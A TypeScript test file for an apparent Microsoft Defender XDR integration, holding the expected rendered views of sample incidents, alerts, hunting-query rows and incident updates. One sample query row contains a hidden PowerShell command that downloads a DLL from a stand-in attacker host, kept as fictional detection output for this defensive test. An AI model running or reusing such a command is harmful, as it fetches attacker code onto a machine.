import { manifests } from "../../../library/generated/manifests.js";
import { viewOf } from "../../../views/main.js";
import { actionNames, manifestOf } from "../../support/manifests.js";
import { exampleResults, resultWith } from "../support/example-results.js";
import { outlineOf } from "../support/view-outline.js";

/** The views of the manifests' examples, as outlines. */
const expected: Readonly<Record<string, readonly string[]>> = {
  ping: [
    "Ping, Completed (good), 2026-11-25T09:00:00.000Z, Microsoft Defender XDR integration 1.0.0",
    "Everything works: the app can do all that the actions need.",
    "# Capabilities [table, main]",
    "  State:status:high | Capability:name:high | Role:code:normal | Finding:text:normal",
    "  OK | Sign in |  | Microsoft Entra ID issued an access token.",
    "  OK | Read incidents | SecurityIncident.Read.All | The list of incidents was read.",
    "  OK | Run hunting queries | ThreatHunting.Read.All | A hunting query was run.",
    "  OK | Update incidents | SecurityIncident.ReadWrite.All | The role is in the access token.",
    "# Run [facts]",
    "  Started: 2026-11-25 09:00 (time)",
    "  Duration: 0 ms (text)",
    "  Case: 42 (text)",
    "  Last request ID: 00000000-0000-4000-8000-000000000002 (code)",
  ],
  "get-incident": [
    "Get Incident, Completed (good), 2026-11-25T09:00:00.000Z, Microsoft Defender XDR integration 1.0.0",
    "An app with high privileges reads the mailbox of one user. Medium severity, active, no owner; 2 alerts, 4 entities (4 suspicious).",
    "Incident: 2976 (text)",
    "Severity: Medium (severity)",
    "Status: Active (status)",
    "Owner: Nobody (name)",
    "Age: 15 min (text)",
    "Tags: oauth (list)",
    "Priority score: 64 (number)",
    "Created: 2026-11-25 08:45 (time)",
    "Last update: 2026-11-25 08:47 (time)",
    "Alerts: 2 (text)",
    "Evidence: 5 (number)",
    "Entities: 4 (number)",
    "Comments: 0 (number)",
    '> Hunt for the 4 suspicious entities. {"action":"execute-entity-query","parameters":{"table_names":"IdentityLogonEvents, EmailEvents, DeviceNetworkEvents","time_frame":"Last 30 Days","user_entity_key":"auto","email_address_entity_key":"auto","ip_entity_key":"auto","stop_if_not_enough_entities":"false","cross_entity_operator":"OR"},"entities":[{"identifier":"m.tanaka@example.com","entityType":"USERUNIQNAME"},{"identifier":"share@documents.example.net","entityType":"USERUNIQNAME"},{"identifier":"192.0.2.77","entityType":"ADDRESS"},{"identifier":"198.51.100.61","entityType":"ADDRESS"}]}',
    '> Assign the incident: nobody owns it. Replace {{analyst}} by a user principal name. {"action":"update-incident","parameters":{"incident_id":"2976","assign_to":"{{analyst}}"},"entities":[]}',
    "@ Incident 2976 https://security.microsoft.com/incident2/2976/overview?tid=5f6c1a2e-0b7d-4e39-9a54-2c1d8e7f6a30",
    "# Alerts [timeline]",
    "  2026-11-25T08:43:00.000Z Unusual consent to an app of an unverified publisher [Medium, serious] Status: New (status); Product: App Governance (text); Category: Persistence (text); MITRE techniques: T1528, T1566.002 (list); Alert: ma13856637543904_107625896 (code) https://security.microsoft.com/alerts/ma13856637543904_107625896?tid=5f6c1a2e-0b7d-4e39-9a54-2c1d8e7f6a30",
    "  2026-11-25T08:44:00.000Z App reads an unusual amount of mail through Graph [Medium, serious] Status: New (status); Product: Microsoft Defender for Cloud Apps (text); Category: Collection (text); MITRE techniques: T1114.002 (list); Alert: ca72486129990857_891889853 (code) https://security.microsoft.com/alerts/ca72486129990857_891889853?tid=5f6c1a2e-0b7d-4e39-9a54-2c1d8e7f6a30",
    "# Evidence [table, main]",
    "  Verdict:verdict:high | Evidence:name:high | Type:text:normal | Remediation:status:high | Roles:list:low | Alerts:number:normal",
    "  Malicious | Mei, the Q4 forecast was shared with you | Analyzed message | None |  | 1",
    "  Malicious | Microsoft Exchange Online | Cloud application | None |  | 1",
    "  Malicious | 198.51.100.61 | IP address | None |  | 1",
    "  Malicious | Document Viewer Pro | OAuth application | None |  | 2",
    "  Suspicious | m.tanaka@example.com | User | None | Compromised | 2",
    "# Entities [table] (Hunt with: the entity keys of Execute Entity Query that find the entity.)",
    "  Entity:name:high | Type:text:normal | Suspicious:boolean:high | Internal:boolean:normal | Hunt with:list:normal",
    "  m.tanaka@example.com | User | yes | yes | User, Email Address",
    "  share@documents.example.net | User | yes | no | User, Email Address",
    "  192.0.2.77 | IP address | yes | no | IP",
    "  198.51.100.61 | IP address | yes | no | IP",
    "# Run [facts]",
    "  Started: 2026-11-25 09:00 (time)",
    "  Duration: 0 ms (text)",
    "  Case: 42 (text)",
    "  Last request ID: 00000000-0000-4000-8000-000000000001 (code)",
  ],
  "list-incidents": [
    "List Incidents, Completed (good), 2026-11-25T09:00:00.000Z, Microsoft Defender XDR integration 1.0.0",
    "2 incidents, 2 open (2 high).",
    "Not closed: 2 (number)",
    "Without an owner: 1 (number)",
    '> Read the gravest open incident, 2975. {"action":"get-incident","parameters":{"incident_id":"2975"},"entities":[]}',
    "@ Incident 2975 https://security.microsoft.com/incident2/2975/overview?tid=5f6c1a2e-0b7d-4e39-9a54-2c1d8e7f6a30",
    "@ Incident 2972 https://security.microsoft.com/incident2/2972/overview?tid=5f6c1a2e-0b7d-4e39-9a54-2c1d8e7f6a30",
    "# Incidents [table, main]",
    "  Incident:text:high | Name:name:high | Severity:severity:high | Status:status:high | Owner:name:normal | Age:text:normal | Classification:status:low | Determination:status:low | Created:time:low | Last update:time:normal | Tags:list:low | Comments:number:low | Link:url:low",
    "  2975 | Possible ransomware preparation on srv-files-01 and two other hosts | High | In progress | j.lindqvist@example.com | 18 min | True positive | Multi-staged attack | 2026-11-25 08:42 | 2026-11-25 08:54 | ransomware, tier 2 | 2 | https://security.microsoft.com/incident2/2975/overview?tid=5f6c1a2e-0b7d-4e39-9a54-2c1d8e7f6a30",
    "  2972 | Multi-stage incident: phishing and a stolen mailbox session of one user | High | Active | Nobody | 44 min | Unknown | Unknown | 2026-11-25 08:16 | 2026-11-25 08:43 | finance | 0 | https://security.microsoft.com/incident2/2972/overview?tid=5f6c1a2e-0b7d-4e39-9a54-2c1d8e7f6a30",
    "# Run [facts]",
    "  Started: 2026-11-25 09:00 (time)",
    "  Duration: 0 ms (text)",
    "  Case: 42 (text)",
    "  Last request ID: 00000000-0000-4000-8000-000000000001 (code)",
  ],
  "execute-query": [
    "Execute Query, Completed (good), 2026-11-25T09:00:00.000Z, Microsoft Defender XDR integration 1.0.0",
    "1 row of DeviceProcessEvents in 1 day.",
    "Tables: DeviceProcessEvents (list)",
    "Time window: 2026-11-24 09:00 to 2026-11-25 09:00 UTC, 1 day (text)",
    "Row limit: 3 (number)",
    "# Rows [table, main]",
    "  Timestamp:time:high | DeviceName:name:high | ProcessCommandLine:code:high",
    '  2026-11-25 08:12 | fin-ws-07.example.com | powershell.exe -NoP -W Hidden -C "$u=\'https://files.evil.example.net/a/helper.dll?v=2\'; (New-Object Net.WebClient).DownloadFile($u,\\"C:\\ProgramData\\upd\\helper.dll\\") | Out-Null # it\'s // fine"',
    "# Query [code]",
    "  DeviceProcessEvents",
    "  | where Timestamp >= datetime(2026-11-24T09:00:00.000Z) and Timestamp < datetime(2026-11-25T09:00:00.000Z)",
    '  | where FileName =~ "powershell.exe"',
    "  | top 4 by Timestamp desc",
    "  | project Timestamp, DeviceName, ProcessCommandLine",
    "# Run [facts]",
    "  Started: 2026-11-25 09:00 (time)",
    "  Duration: 0 ms (text)",
    "  Case: 42 (text)",
    "  Last request ID: 00000000-0000-4000-8000-000000000001 (code)",
  ],
  "execute-entity-query": [
    "Execute Entity Query, Incomplete (caution), 2026-11-25T09:00:00.000Z, Microsoft Defender XDR integration 1.0.0",
    "The first 2 rows of DeviceNetworkEvents in 1 day. There are more.",
    "Tables: DeviceNetworkEvents (list)",
    "Time window: 2026-11-24 09:00 to 2026-11-25 09:00 UTC, 1 day (text)",
    "Row limit: 2 (number)",
    "Entities: 2 searched (text)",
    "! ROWS_TRUNCATED",
    "> Narrow the query by a shorter time, a clause or fewer entities, or raise Max Results To Return.",
    "> Set Sort Order to DESC to get the newest rows instead of the oldest.",
    "# Matches by entity [table]",
    "  Entity:name:high | Type:text:normal | Rows:number:high | Searched in:text:normal",
    "  203.0.113.77 | IP address | 2 | RemoteIP",
    "  FIN-WS-07.EXAMPLE.COM | Host | 2 | DeviceName",
    "# Rows over time [chart] (Only the rows that were returned are counted.)",
    "  rows per 60 min from 2026-11-24T09:00:00.000Z",
    "  0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 2",
    "# Rows [table, main]",
    "  Timestamp:time:high | DeviceName:name:high | RemoteIP:text:high | RemotePort:number:high",
    "  2026-11-25 08:13 | fin-ws-07.example.com | 203.0.113.77 | 443",
    "  2026-11-25 08:14 | fin-ws-07.example.com | 203.0.113.77 | 443",
    "# Query [code]",
    "  DeviceNetworkEvents",
    "  | where Timestamp >= datetime(2026-11-24T09:00:00.000Z) and Timestamp < datetime(2026-11-25T09:00:00.000Z)",
    '  | where RemoteIP in~ ("203.0.113.77", "::ffff:203.0.113.77")',
    '  | where DeviceName in~ ("FIN-WS-07.EXAMPLE.COM", "FIN-WS-07")',
    "  | top 3 by Timestamp asc",
    "  | project Timestamp, DeviceName, RemoteIP, RemotePort",
    "# Run [facts]",
    "  Started: 2026-11-25 09:00 (time)",
    "  Duration: 0 ms (text)",
    "  Case: 42 (text)",
    "  Last request ID: 00000000-0000-4000-8000-000000000001 (code)",
  ],
  "execute-custom-query": [
    "Execute Custom Query, Completed (good), 2026-11-25T09:00:00.000Z, Microsoft Defender XDR integration 1.0.0",
    "4 rows of AlertInfo in the last 30 days.",
    "Tables: AlertInfo (list)",
    "Time window: the last 30 days (default) (text)",
    "Row limit: 10 (number)",
    "# Rows [table, main]",
    "  Severity:severity:high | Alerts:number:normal",
    "  High | 9",
    "  Informational | 1",
    "  Low | 1",
    "  Medium | 9",
    "# Query [code]",
    "  AlertInfo | summarize Alerts = count() by Severity | sort by Severity asc",
    "  | take 11",
    "# Run [facts]",
    "  Started: 2026-11-25 09:00 (time)",
    "  Duration: 0 ms (text)",
    "  Case: 42 (text)",
    "  Defaults used: Timespan P30D (list)",
    "  Last request ID: 00000000-0000-4000-8000-000000000001 (code)",
  ],
  "update-incident": [
    "Update Incident, Completed (good), 2026-11-25T09:00:00.000Z, Microsoft Defender XDR integration 1.0.0",
    "Incident 2972 was updated: status, classification, determination and owner.",
    "Incident: 2972 (text)",
    "Name: Multi-stage incident: phishing and a stolen mailbox session of one user (name)",
    "@ Incident 2972 https://security.microsoft.com/incident2/2972/overview?tid=5f6c1a2e-0b7d-4e39-9a54-2c1d8e7f6a30",
    "# Changes [table, main] (Unchanged: severity High, tags finance.)",
    "  Field:name:high | Before:text:high | After:text:high",
    "  Status | Active | In progress",
    "  Classification | Unknown | True positive",
    "  Determination | Unknown | Phishing",
    "  Owner | none | analyst@example.com",
    "# Run [facts]",
    "  Started: 2026-11-25 09:00 (time)",
    "  Duration: 0 ms (text)",
    "  Case: 42 (text)",
    "  Last request ID: 00000000-0000-4000-8000-000000000003 (code)",
  ],
  "add-comment-to-incident": [
    "Add Comment To Incident, Completed (good), 2026-11-25T09:00:00.000Z, Microsoft Defender XDR integration 1.0.0",
    "Successfully added comment to incident 2972 in Microsoft 365 Defender.",
    "Incident: 2972 (text)",
    "@ Incident 2972 https://security.microsoft.com/incident2/2972/overview?tid=5f6c1a2e-0b7d-4e39-9a54-2c1d8e7f6a30",
    "# Comment [comments]",
    "  2026-11-25T09:00:00.000Z SOAR integration: Mailbox rule removed, sessions revoked. Next: reset the password.",
    "# Run [facts]",
    "  Started: 2026-11-25 09:00 (time)",
    "  Duration: 0 ms (text)",
    "  Case: 42 (text)",
    "  Last request ID: 00000000-0000-4000-8000-000000000002 (code)",
  ],
};

describe("the run in a view", () => {
  const runOf = (meta: object) => {
    const result = resultWith("ping", null);
    return viewOf({ ...result, meta: { ...result.meta, ...meta } }, manifestOf("ping"))
      .sections.filter(({ title }) => title === "Run")
      .flatMap((section) => ("facts" in section ? section.facts.map(({ label, value }) => [label, value]) : []));
  };
  const tenant = { tenant_id: "11111111-2222-4333-8444-555555555555", cloud: "gcc_high" };

  it("names profile, tenant and cloud if a profile was used", () => {
    expect(runOf({ profile: "acme", ...tenant })).toEqual(
      expect.arrayContaining([
        ["Profile", "acme"],
        ["Tenant", tenant.tenant_id],
        ["Cloud", "gcc_high"],
      ]),
    );
  });

  it("names no tenant without a profile, and none in a result from before there were profiles", () => {
    const labels = (meta: object) => runOf(meta).map(([label]) => label);

    expect(labels({ profile: null, ...tenant })).not.toContain("Tenant");
    expect(labels({ profile: undefined, tenant_id: undefined, cloud: undefined })).toEqual(labels({ profile: null }));
  });
});

describe("the view of a real result", () => {
  it("shows of each action what its reader looks for", async () => {
    const results = await exampleResults();

    const outlines = results.map((result) => {
      const manifest = Object.values(manifests).find(({ name }) => name === result.action);
      return [result.action, manifest && outlineOf(viewOf(result, manifest))];
    });

    expect(Object.fromEntries(outlines)).toEqual(expected);
    expect(Object.keys(expected).sort()).toEqual([...actionNames].sort());
  });
});
